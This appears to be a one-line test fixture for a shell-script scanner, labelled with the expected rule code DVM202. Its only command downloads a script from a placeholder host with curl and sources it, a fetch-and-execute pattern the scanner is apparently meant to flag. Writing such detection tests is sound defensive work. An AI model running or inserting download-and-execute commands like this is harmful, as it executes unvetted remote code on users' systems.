# expect: DVM202
cat <(curl -s https://x.example.org/a) > b.sh; source b.sh
